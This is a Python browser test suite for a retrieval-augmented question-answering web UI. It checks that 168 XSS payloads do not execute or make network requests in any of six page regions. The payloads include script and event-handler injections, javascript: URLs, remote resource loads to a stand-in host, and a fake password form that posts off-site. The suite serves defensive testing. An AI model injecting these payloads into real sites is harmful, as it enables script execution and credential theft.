"""What documents and people write can neither act nor fetch: 168 payloads in each of 6 places of the page."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

import pytest

from rag.datatypes import Answer, Citation, Hit, Passage, Statement
from rag.ui.answers import render_turns
from rag.ui.conversation import Turn
from rag.ui.documents import render_documents, render_progress
from rag.ui.markup import render_error
from rag.ui.sources import render_source
from rag.views import DocumentRow, document_view

from rag.datatypes import Document, Heading  # isort: skip

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

OUT = "http://127.0.0.1:9"  # nobody listens; a request to it is seen all the same
RUN = "window.hacked=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src={OUT}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{OUT}/i.png">',
    f'<img srcset="{OUT}/s.png 1x">',
    f"<picture><source srcset={OUT}/p.png><img></picture>",
    f"<svg onload={RUN}></svg>",
    f"<svg><image href={OUT}/g.png /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{OUT}/u.svg#a'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<video src={OUT}/v.mp4 autoplay></video>",
    f"<video poster={OUT}/v.png></video>",
    f"<audio src={OUT}/a.mp3 autoplay></audio>",
    f"<source src={OUT}/a.mp3>",
    f"<iframe src={OUT}/f></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={OUT}/o></object>",
    f"<embed src={OUT}/e>",
    f"<link rel=stylesheet href={OUT}/l.css>",
    f"<style>@import url({OUT}/i.css); body{{background:url({OUT}/b.png)}}</style>",
    f"<p style=\"background:url('{OUT}/c.png')\">x</p>",
    "<div style='position:fixed;inset:0;background:red'>overlay</div>",
    f"<form action={OUT}/post><input name=password type=password><button>Log in</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<body onload={RUN}>",
    f"<base href={OUT}/>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href={OUT} ping={OUT}/ping>x</a>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<dialog open><form method=dialog><button onclick={RUN}>x</button></form></dialog>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<mark class=x onmouseover={RUN} style='position:fixed;inset:0'>x</mark>",
    f"<button data-action=rebuild class=chip onclick={RUN}>1</button>",
    f"</p></div></article><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"\"'><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;<img src=x onerror={RUN}",
    f"${{{RUN}}} {{{{{RUN}}}}} #{{{RUN}}}",
    f"![x]({OUT}/m.png)",
    f"![x][r]\n\n[r]: {OUT}/r.png",
    f"[x](javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<{OUT}/auto>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
]
PAYLOADS = [
    *MARKUP,
    *(f"التسويق \u202e{text.replace('<img', '<IMG').replace('<s', '<S')}\u202c الرقمي" for text in MARKUP),
    *(text.replace("<", "<\u200b" if i % 2 else "<\x0c", 1) + text for i, text in enumerate(MARKUP)),
]


def places(payload: str) -> dict[str, str]:
    """Return the HTML of each place of the page that can hold a text from outside, by where it goes."""
    cited = Citation(1, f"{payload}.md", payload, "ar", payload, 0, len(payload), 1, (payload,), 0, 9)
    hit = Hit(Passage(f"{payload}.md", 0, len(payload), payload, "en", payload, (payload,)), 1.0, 1, 0.5, 1.0, 1, 1)
    statements = tuple(Statement(payload, kind, (1,)) for kind in ("short", "quote", "item", "written", "frame"))
    answer = Answer(payload, "ar", payload, False, 0.9, statements, (cited,), (hit,), query=payload, notice=payload)
    refused = replace(answer, abstained=True, citations=(), statements=())
    document = Document(f"{payload}.md", payload, f"{payload}\n{payload}", "ar", "0", (Heading(payload, 1, 0, 4),))
    row = DocumentRow(
        f"{payload}.md", payload, "ar", payload, 1, 9, 9, datetime.now(UTC), "failed", payload, is_deletable=True
    )
    return {
        "answer": render_turns([Turn(payload, "ar", answer, is_done=True, follow_ups=(payload,))]),
        "partial": render_turns([Turn(payload, "en", replace(answer, text=payload[: len(payload) // 2]))]),
        "nearest": render_turns([Turn(payload, "en", refused, is_done=True)]),
        "error": render_error("error", payload) + render_turns([Turn(payload, "en", error="error", detail=payload)]),
        "source": render_source(document_view(document, 0, len(payload))),
        "file": render_documents([row]) + render_progress(None),
    }


WRITE = """html => {
    const place = document.createElement('div');
    document.querySelector('#sanad-transcript').append(place);
    place.innerHTML = html;
    const bad = place.querySelectorAll('script, img, svg, math, iframe, object, embed, form, input, textarea, ' +
        'select, video, audio, source, link, style, base, meta, a, template, dialog, [style], [href], [src]');
    const acts = [...place.querySelectorAll('*')].flatMap(one => [...one.attributes])
        .filter(one => /^on/i.test(one.name) ||
            /javascript:|data:text/i.test(one.value) && !/^data-|^title$/.test(one.name));
    const fixed = [...place.querySelectorAll('*')].filter(one => getComputedStyle(one).position === 'fixed');
    place.remove();
    return [...bad, ...fixed].map(one => one.outerHTML.slice(0, 200)).concat(acts.map(one => one.name));
}"""


def test_no_payload_acts_or_fetches_anywhere_on_the_page(visitor):
    person = visitor()
    assert len(PAYLOADS) >= 150 and len(set(PAYLOADS)) == len(PAYLOADS)
    tried = 0
    for payload in PAYLOADS:
        for place, html in places(payload).items():
            assert person.page.evaluate(WRITE, html) == [], (place, payload)
            tried += 1
    person.page.wait_for_timeout(500)
    assert tried == 6 * len(PAYLOADS)


def test_the_same_payloads_do_act_where_nothing_stops_them(browser):
    """The test above can fail: written as they are, they run and fetch."""
    page = browser.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto("about:blank")
    page.evaluate(
        """payloads => payloads.forEach(payload => {
            const place = document.createElement('div');
            document.body.append(place);
            place.innerHTML = payload;
        })""",
        [payload for payload in MARKUP if "refresh" not in payload],  # that one leads away from the page
    )
    page.wait_for_timeout(1000)
    acted, asked = page.evaluate("window.hacked"), sum(url.startswith(OUT) for url in requests)
    page.close()
    assert acted == 1 and asked >= 5
